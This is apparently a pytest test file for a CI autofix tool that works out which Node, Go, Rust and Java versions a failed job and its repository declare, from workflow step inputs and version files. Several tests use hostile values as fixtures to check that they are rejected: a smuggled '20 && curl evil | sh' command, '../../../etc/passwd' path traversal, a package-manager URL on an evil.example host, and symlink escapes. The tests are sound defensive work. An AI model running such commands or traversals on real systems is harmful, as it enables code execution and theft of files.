"""What a failed job and its repository declare: step inputs first, then the file a step names, then
the repository's files (for Rust, its toolchain file wins, as rustup makes it); only checked versions."""

from __future__ import annotations

import json
import os
from pathlib import Path

import pytest
import yaml

from ci_autofix.toolchains.declared import Declared, PackageManager, declared


def _job(text: str) -> dict[str, object]:
    job = yaml.safe_load(text)
    assert isinstance(job, dict)
    return job


def _write(root: Path, files: dict[str, str]) -> Path:
    for name, content in files.items():
        (root / name).parent.mkdir(parents=True, exist_ok=True)
        (root / name).write_text(content)
    return root


def test_the_steps_inputs_come_first(tmp_path: Path) -> None:
    _write(tmp_path, {".nvmrc": "18\n", "go.mod": "module x\n\ngo 1.21\n", "package.json": "{}"})
    job = _job(
        """
        runs-on: ubuntu-latest
        steps:
          - uses: actions/checkout@v4
          - uses: actions/setup-node@v4
            with: {node-version: 20.x}
          - uses: actions/setup-go@v5
            with: {go-version: '1.22'}
          - uses: actions/setup-java@v4
            with: {java-version: 17, distribution: temurin}
        """
    )
    found = declared(tmp_path, job)
    assert found.runtimes == (
        Declared("node", "20.x", "`actions/setup-node@v4` input `node-version`"),
        Declared("go", "1.22", "`actions/setup-go@v5` input `go-version`"),
        Declared("java", "17", "`actions/setup-java@v4` input `java-version`"),
    )


def test_an_unquoted_yaml_number_is_what_the_runner_passes(tmp_path: Path) -> None:
    job = _job("steps: [{uses: actions/setup-go@v5, with: {go-version: 1.20}}]")
    assert declared(tmp_path, job).get("go") == Declared(
        "go", "1.2", "`actions/setup-go@v5` input `go-version`"
    )


def test_go_work_named_by_the_step(tmp_path: Path) -> None:
    _write(tmp_path, {"go.work": "go 1.22.1\n\nuse ./a\n", "go.mod": "module x\n\ngo 1.21\n"})
    job = _job("steps: [{uses: actions/setup-go@v5, with: {go-version-file: go.work}}]")
    assert declared(tmp_path, job).get("go") == Declared(
        "go", "1.22.1", "go.work go (named by `actions/setup-go@v5`)"
    )


def test_the_file_a_step_names_comes_next(tmp_path: Path) -> None:
    _write(
        tmp_path,
        {
            ".nvmrc": "18\n",
            "web/.node-version": "# pinned\nv20.11.1 # current\n",
            "go.mod": "module x\n\ngo 1.21\n\ntoolchain go1.21.5\n",
        },
    )
    job = _job(
        """
        steps:
          - uses: actions/setup-node@v4
            with: {node-version-file: web/.node-version}
          - uses: actions/setup-go@v5
            with: {go-version-file: go.mod}
        """
    )
    found = declared(tmp_path, job)
    assert found.get("node") == Declared(
        "node", "v20.11.1", "web/.node-version (named by `actions/setup-node@v4`)"
    )
    assert found.get("go") == Declared("go", "1.21.5", "go.mod toolchain (named by `actions/setup-go@v5`)")


@pytest.mark.parametrize(
    ("files", "expected"),
    [
        ({".nvmrc": "lts/iron\n"}, Declared("node", "lts/iron", ".nvmrc")),
        ({".node-version": "20.11.0"}, Declared("node", "20.11.0", ".node-version")),
        (
            {".tool-versions": "python 3.12.1\nnodejs 20.10.0 # x\n"},
            Declared("node", "20.10.0", ".tool-versions nodejs"),
        ),
        ({"mise.toml": '[tools]\nnode = ["22", "20"]\n'}, Declared("node", "22", "mise.toml tools.node")),
        (
            {"package.json": '{"volta": {"node": "20.9.0"}, "engines": {"node": ">=18"}}'},
            Declared("node", "20.9.0", "package.json volta.node"),
        ),
        (
            {"package.json": '{"engines": {"node": ">=18 <21 || ^22"}}'},
            Declared("node", ">=18 <21 || ^22", "package.json engines.node"),
        ),
        ({"package.json": "{}"}, Declared("node", "lts/*", "nothing declared (package.json): the default")),
        ({"go.mod": "module x\n\ngo 1.22.0 // lang\n"}, Declared("go", "1.22.0", "go.mod go")),
        ({"go.mod": "module x\ngo 1.21\ntoolchain go1.22.3\n"}, Declared("go", "1.22.3", "go.mod toolchain")),
        ({".tool-versions": "golang 1.21.6\n"}, Declared("go", "1.21.6", ".tool-versions golang")),
        (
            {"rust-toolchain.toml": '[toolchain]\nchannel = "1.80.0"\ncomponents = ["rustfmt"]\n'},
            Declared("rust", "1.80.0", "rust-toolchain.toml channel"),
        ),
        (
            {"rust-toolchain": "nightly-2024-05-01\n"},
            Declared("rust", "nightly-2024-05-01", "rust-toolchain"),
        ),
        (
            {"mise.toml": '[tools]\nrust = { version = "1.79" }\n'},
            Declared("rust", "1.79", "mise.toml tools.rust"),
        ),
        (
            {"Cargo.toml": "[package]\n"},
            Declared("rust", "stable", "nothing declared (Cargo.toml): the default"),
        ),
        ({".java-version": "21\n"}, Declared("java", "21", ".java-version")),
    ],
)
def test_repository_files(tmp_path: Path, files: dict[str, str], expected: Declared) -> None:
    found = declared(_write(tmp_path, files), {})
    assert found.get(expected.runtime) == expected


def test_a_rust_toolchain_file_overrides_the_step_as_rustup_does(tmp_path: Path) -> None:
    _write(tmp_path, {"rust-toolchain.toml": '[toolchain]\nchannel = "1.79.0"\n'})
    job = _job("steps: [{uses: dtolnay/rust-toolchain@stable, with: {components: rustfmt}}]")
    found = declared(tmp_path, job)
    assert found.get("rust") == Declared("rust", "1.79.0", "rust-toolchain.toml channel")
    assert any("overrides" in note for note in found.notes)


def test_rust_in_tool_versions_does_not_override_the_step(tmp_path: Path) -> None:
    _write(tmp_path, {".tool-versions": "rust 1.79.0\n", "mise.toml": '[tools]\nrust = "1.78"\n'})
    job = _job("steps: [{uses: dtolnay/rust-toolchain@1.80}]")
    assert declared(tmp_path, job).get("rust") == Declared(
        "rust", "1.80", "`dtolnay/rust-toolchain@1.80` input `ref`"
    )


@pytest.mark.parametrize(
    ("step", "expected"),
    [
        (
            "{uses: dtolnay/rust-toolchain@1.80}",
            Declared("rust", "1.80", "`dtolnay/rust-toolchain@1.80` input `ref`"),
        ),
        (
            "{uses: dtolnay/rust-toolchain@master, with: {toolchain: nightly}}",
            Declared("rust", "nightly", "`dtolnay/rust-toolchain@master` input `toolchain`"),
        ),
        (
            "{uses: actions-rust-lang/setup-rust-toolchain@v1, with: {toolchain: 1.81.0-x86_64-unknown-linux-gnu}}",
            Declared("rust", "1.81.0", "`actions-rust-lang/setup-rust-toolchain@v1` input `toolchain`"),
        ),
    ],
)
def test_rust_steps(tmp_path: Path, step: str, expected: Declared) -> None:
    assert declared(tmp_path, _job(f"steps: [{step}]")).get("rust") == expected


def test_a_matrix_expression_is_resolved_only_from_the_matrix_given(tmp_path: Path) -> None:
    _write(tmp_path, {".nvmrc": "18\n"})
    job = _job("steps: [{uses: actions/setup-node@v4, with: {node-version: '${{ matrix.node }}'}}]")
    assert declared(tmp_path, job, matrix={"node": 22}).get("node") == Declared(
        "node", "22", "`actions/setup-node@v4` input `node-version`"
    )
    unresolved = declared(tmp_path, job)
    assert unresolved.get("node") == Declared("node", "18", ".nvmrc")
    assert any("expression only the runner resolves" in note for note in unresolved.notes)


def test_package_manager(tmp_path: Path) -> None:
    _write(tmp_path, {"package.json": json.dumps({"packageManager": "pnpm@9.1.0+sha512." + "ab" * 64})})
    assert declared(tmp_path, {}).package_manager == PackageManager("pnpm", "9.1.0")
    _write(tmp_path, {"package.json": json.dumps({"packageManager": "pnpm@https://evil.example/pnpm.tgz"})})
    assert declared(tmp_path, {}).package_manager is None


@pytest.mark.parametrize(
    "hostile",
    [
        "https://127.0.0.1:9/node-v20.0.0-linux-x64.tar.xz",
        "../../../etc/passwd",
        "20 && curl evil | sh",
        "v20.1.0/../../../../evil",
        "20\x00",
    ],
)
def test_hostile_text_in_a_version_file_is_passed_over_and_never_quoted(tmp_path: Path, hostile: str) -> None:
    _write(tmp_path, {".nvmrc": hostile + "\n", ".node-version": "20.11.0\n"})
    found = declared(tmp_path, {})
    assert found.get("node") == Declared("node", "20.11.0", ".node-version")
    assert any(note.startswith(".nvmrc is not a node version") for note in found.notes)
    assert not any(hostile.strip("\x00") in note for note in found.notes)


def test_a_version_file_outside_the_checkout_or_behind_a_link_is_never_read(tmp_path: Path) -> None:
    outside = tmp_path / "secret"
    outside.write_text("20.1.0\n")  # it would parse: only where it is keeps it out
    root = tmp_path / "repo"
    root.mkdir()
    (root / ".nvmrc").symlink_to(outside)
    os.symlink(tmp_path, root / "up")
    for name in ("../secret", str(outside), "up/secret"):
        job = _job(f"steps: [{{uses: actions/setup-node@v4, with: {{node-version-file: '{name}'}}}}]")
        found = declared(root, job)
        assert found.get("node") is None, name
    assert declared(root, {}).get("node") is None
